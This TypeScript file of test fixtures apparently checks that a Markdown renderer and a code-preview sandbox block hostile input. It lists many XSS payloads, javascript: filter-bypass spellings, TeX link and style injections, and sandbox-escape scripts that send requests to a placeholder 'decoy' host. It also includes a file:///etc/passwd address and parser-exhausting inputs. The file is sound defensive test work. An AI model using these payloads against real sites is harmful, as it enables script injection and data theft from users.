/** Hostile answers, as Markdown. A successful attack sends a request to `decoy`, or sets `window.hostileRan`. */
export function hostileTexts(decoy: string): readonly string[] {
  const run = `window.hostileRan=1;alert(1);fetch('${decoy}/fetch')`
  return [
    `<script>${run}</script>`,
    `<script src="${decoy}/script.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${decoy}/image.png">`,
    `<svg/onload="${run}"><script>${run}</script></svg>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${decoy}/refresh"><base href="${decoy}/">` +
      `<link rel="stylesheet" href="${decoy}/style.css">`,
    `<style>@import url(${decoy}/import.css); * { background: url(${decoy}/background.png) }</style>`,
    `<form action="${decoy}/form"><input autofocus onfocus="${run}">` +
      `<button formaction="javascript:${run}">Go</button></form>`,
    `<video src="${decoy}/video" onerror="${run}" autoplay></video><object data="${decoy}/object"></object>` +
      `<embed src="${decoy}/embed">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<a href="javascript:${run}">html link</a> <details open ontoggle="${run}">x</details>`,
    `--><!--[if]><script>${run}</script><![endif]--> <![CDATA[<script>${run}</script>]]> <?xml ${run}?>`,
    ...javascriptAddresses(run).flatMap((address) => [
      `[link](${address})`,
      `[link](<${address}>)`,
      `<${address}>`,
      `![picture](${address})`,
    ]),
    `[by label][evil] [evil]\n\n[evil]: javascript:${run} "title"`,
    `![picture](${decoy}/markdown.png) [![picture](${decoy}/nested.png)](${decoy}/around) ` +
      `![by label][remote]\n\n[remote]: ${decoy}/label.png`,
    `![picture](//${new URL(decoy).host}/scheme-relative.png) ![picture](/assets/../relative.png)`,
    `[title](https://svc.example/ "\\" onmouseover=\\"${run}") [attribute](https://svc.example/" onclick="${run})`,
    `| <img src=x onerror="${run}"> | [link](javascript:${run}) |\n|---|:-:|\n` +
      `| <script>${run}</script> | ![picture](${decoy}/table.png) |`,
    `- <script>${run}</script>\n  > <img src="${decoy}/quote.png">\n\n# <svg onload="${run}">`,
    `\`\`\`html\n<script>${run}</script><img src="${decoy}/code.png">\n\`\`\``,
    `\`\`\`"><script>${run}</script> ../../x\ncode\n\`\`\``,
    `\`<img src="${decoy}/span.png">\` **<b onclick="${run}">bold</b>** ~~<s>~~ ` +
      `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
    ...hostileFormulas(run, decoy),
    `<details>\n<summary><img src=x onerror="${run}"> <b onclick="${run}">b</b></summary>\n` +
      `<script>${run}</script>\n\n<iframe src="${decoy}/details"></iframe>\n</details>`,
    `<details open="" ontoggle="${run}"><summary onclick="${run}">x</summary>${run}</details>`,
    `<sub onclick="${run}">x</sub> <kbd style="background:url(${decoy}/kbd.png)">x</kbd> ` +
      `<sup><img src=x onerror=${run}></sup>`,
    `<br onclick="${run}"> <b><i onmouseover="${run}">x</i></b> <em>javascript:${run}</em>`,
    `a[^x"onclick="${run}] b[^<img/src=x/onerror=window.hostileRan=1>] c[^constructor] d[^__proto__]\n\n` +
      `[^x"onclick="${run}]: a\n[^<img/src=x/onerror=window.hostileRan=1>]: b\n[^__proto__]: [c](javascript:${run})`,
    `a[^remote]\n\n[^remote]: ![picture](${decoy}/footnote.png) <script>${run}</script>\n\n` +
      `    <img src=x onerror="${run}">`,
    `> [!NOTE]\n> <script>${run}</script> ![picture](${decoy}/alert.png)\n\n> [!"onclick="${run}]\n> x`,
    `{{constructor.constructor('${run}')()}} \${${run}} %0Aset-cookie:x=1`,
  ]
}

/** Commands of TeX that make addresses, pictures, attributes and styles, in libraries that trust them. */
function hostileFormulas(run: string, decoy: string): readonly string[] {
  const commands = [
    `\\href{javascript:${run}}{x}`,
    `\\href{${decoy}/href}{x} \\url{${decoy}/url}`,
    `\\includegraphics[height=1em]{${decoy}/graphics.png}`,
    `\\htmlData{onload=${run}}{x} \\data{onclick=${run}}{x}`,
    `\\htmlStyle{background:url(${decoy}/style.png)}{x}`,
    `\\style{background:url(${decoy}/style.png)}{x}`,
    `\\htmlId{root}{x} \\id{root}{x} \\cssId{root}{x}`,
    `\\htmlClass{fixed inset-0}{x} \\class{fixed inset-0}{x}`,
    `\\text{<img src=x onerror="${run}">} <script>${run}</script>`,
    `\\unicode{x3c} \\char"3C script \\char"3E ${run}`,
    `\\textcolor{red;background:url(${decoy}/color.png)}{x}`,
    `\\colorbox{url(${decoy}/box.png)}{x}`,
    `\\rule{9999em}{9999em} \\hspace{-9999em} \\raisebox{-9999pt}{x} \\llap{x}`,
    `\\def\\x{\\x\\x}\\x \\newcommand{\\y}{<b>}\\y`,
    `\\ref{a} \\label{" onmouseover="${run}} \\tag{<b onclick="${run}">}`,
    `\\require{html} \\verb|<img src=x onerror=${run}>| \\begin{a onload=${run}}\\end{a}`,
  ]
  return commands.flatMap((command) => [`$${command}$`, `$$\n${command}\n$$`, `\\[ x + \\text{y} ${command} \\]`])
}

/** Spellings of `javascript:` that browsers understand and filters may miss, and other schemes that run scripts. */
function javascriptAddresses(run: string): readonly string[] {
  return [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `&#106;avascript:${run}`,
    `&#x6A;&#x61;vascript&colon;${run}`,
    `java&Tab;script:${run}`,
    `java&NewLine;script:${run}`,
    `java\tscript:${run}`,
    `\u0001javascript:${run}`,
    `\u00a0javascript:${run}`,
    ` javascript:${run}`,
    `\u200bjavascript:${run}`,
    `java\u0000script:${run}`,
    `javascript\\:${run}`,
    `%6Aavascript:${run}`,
    `vbscript:${run}`,
    `view-source:javascript:${run}`,
    `blob:null/${run}`,
    `filesystem:x/${run}`,
    `data:text/html,<script>${run}</script>`,
    `DATA:text/html;base64,${btoa(`<script>${run}</script>`)}`,
    `data:image/svg+xml,<svg onload="${run}"/>`,
    `data:image/svg+xml;base64,${btoa(`<svg onload="${run}"/>`)}`,
    `data:image/png;base64,"onerror="${run}`,
    `https:javascript:${run}`,
    `http://user:pass@127.0.0.1:1/\u202e`,
    `file:///etc/passwd`,
    `intent://x#Intent;S.x=${run};end`,
  ]
}

/**
 * Documents for the preview of code, each with an element `h1`. A successful attack sends a request to `decoy`, or sets
 * `window.hostileRan` of the page.
 */
export function hostileDocuments(decoy: string): readonly string[] {
  const title = `<h1>shown</h1><script>parent.postMessage({ hostileRan: 1 }, '*')</script>`
  const attempts = [
    `fetch('${decoy}/fetch')`,
    `new XMLHttpRequest().open('GET', '${decoy}/xhr')`,
    `(() => { const x = new XMLHttpRequest(); x.open('GET', '${decoy}/xhr'); x.send() })()`,
    `new WebSocket('${decoy.replace('http', 'ws')}/socket')`,
    `new EventSource('${decoy}/events')`,
    `navigator.sendBeacon('${decoy}/beacon', 'x')`,
    `new Image().src = '${decoy}/image.png'`,
    `new Audio('${decoy}/audio.mp3').play()`,
    `import('${decoy}/module.js')`,
    `new Worker('${decoy}/worker.js')`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('${decoy}/worker')"])))`,
    `navigator.serviceWorker.register('${decoy}/service-worker.js')`,
    ...[
      ['script', `src: '${decoy}/script.js'`],
      ['link', `rel: 'stylesheet', href: '${decoy}/a.css'`],
      ['link', `rel: 'prefetch', href: '${decoy}/b'`],
      ['link', `rel: 'preconnect', href: '${decoy}'`],
    ].map(
      ([name, members]) => `document.head.append(Object.assign(document.createElement('${name}'), { ${members} }))`,
    ),
    `new FontFace('x', 'url(${decoy}/font.woff2)').load()`,
    `(() => {
      const urls = 'turn:${new URL(decoy).host}?transport=tcp'
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] })
      peer.createDataChannel('x')
      void peer.setLocalDescription()
    })()`,
    `new WebTransport('${decoy.replace('http:', 'https:')}/transport')`,
    `open('${decoy}/window')`,
    `open('${decoy}/top', '_top')`,
    `top.location = '${decoy}/location'`,
    `top.location.href = '${decoy}/href'`,
    `parent.location.replace('${decoy}/replace')`,
    `parent.hostileRan = 1`,
    `parent.document.body.append('x')`,
    `parent.eval('window.hostileRan = 1')`,
    `frameElement.ownerDocument.defaultView.hostileRan = 1`,
    `localStorage.setItem('x', 'y')`,
    `sessionStorage.setItem('x', 'y')`,
    `document.cookie = 'x=y'`,
    `indexedDB.open('x')`,
    `caches.open('x')`,
    `new BroadcastChannel('x').postMessage('y')`,
    `alert(1)`,
    `document.documentElement.requestFullscreen()`,
    `navigator.clipboard.readText()`,
    `Object.assign(document.createElement('a'), { href: '${decoy}/a', download: 'x', ping: '${decoy}/ping' }).click()`,
    `Object.assign(document.createElement('a'), { href: '${decoy}/a', target: '_blank' }).click()`,
    `Object.assign(document.createElement('a'), { href: '${decoy}/a', target: '_top' }).click()`,
  ]
  return [
    title + attempts.map((attempt) => `<script>try { void ${attempt} } catch {}</script>`).join('\n'),
    `${title}<script>location = '${decoy}/location'</script>`,
    `${title}<script>location = 'data:text/html,<img src=${decoy}/data.png>'</script>`,
    `${title}<script>const own = new Blob(['<script>parent.hostileRan=1'], { type: 'text/html' })\n` +
      `location = URL.createObjectURL(own)</script>`,
    `${title}<meta http-equiv="refresh" content="0;url=${decoy}/refresh">`,
    `${title}<base href="${decoy}/"><img src="base.png"><a href="x" target="_top">x</a>` +
      `<script>document.links[0].click()</script>`,
    `${title}<form action="${decoy}/form" method="post"><input name="x"></form>` +
      `<script>document.forms[0].submit()</script>`,
    `${title}<form action="${decoy}/form" target="_top"></form><script>document.forms[0].requestSubmit()</script>`,
    `${title}<iframe src="${decoy}/frame"></iframe><iframe srcdoc="<img src='${decoy}/srcdoc.png'>"></iframe>` +
      `<object data="${decoy}/object"></object><embed src="${decoy}/embed">` +
      `<video src="${decoy}/video" autoplay></video>`,
    `${title}<link rel="stylesheet" href="${decoy}/style.css"><style>@import url(${decoy}/import.css);` +
      `body { background: url(${decoy}/background.png) }</style><link rel="dns-prefetch" href="${decoy}">`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${decoy}/onload')">` +
      `<image href="${decoy}/svg.png"/><use href="${decoy}/use.svg#a"/><script href="${decoy}/svg.js"/></svg>${title}`,
    `${title}<script type="speculationrules">` +
      `{"prefetch":[{"source":"list","urls":["${decoy}/speculation"]}]}</script>` +
      `<script>onbeforeunload = () => 'stay'; history.pushState(0, '', '/x'); location.reload()</script>`,
  ]
}

/** Texts that are expensive for parsers of Markdown. */
export const heavyTexts: readonly (readonly [string, string])[] = [
  ['a line of a megabyte', 'word '.repeat(200_000)],
  ['a word of a megabyte', 'x'.repeat(1_000_000)],
  ['50,000 opened brackets', '['.repeat(50_000)],
  ['20,000 quotes in each other', `${'>'.repeat(20_000)} deep`],
  ['lists in each other', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- deep`).join('\n')],
  ['marks that are never closed', '**_~~`['.repeat(8_000)],
  ['a table of 2,000 columns', `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n|${'b|'.repeat(2_000)}`],
  ['formulas', '$x_1$ \\(\\frac{a}{b}\\) $$y$$ '.repeat(1_000)],
  ['formulas that do not end', '$$\nx_1 $a \\( \\[ '.repeat(3_000)],
  ['line breaks alone', '\n'.repeat(100_000)],
]

/** Invisible characters that change others: open direction marks, characters without width, null, lone surrogates. */
export const unseen =
  'start \u202Egnihtyreve\u202D \u2066isolate \u200Bzero\u200B\u2060\uFEFF \u0000null \u0007bell ' +
  '\u001B[31mred \uD800 half \uDFFF \uFFFE end'

/** A name with markup, one that is partly right-to-left, and one without a line break opportunity. */
export function hostileNames(decoy: string): readonly string[] {
  return [`<img src=x onerror="window.hostileRan=1;fetch('${decoy}/name')">`, 'safe\u202Eexe.gnp', 'long'.repeat(60)]
}
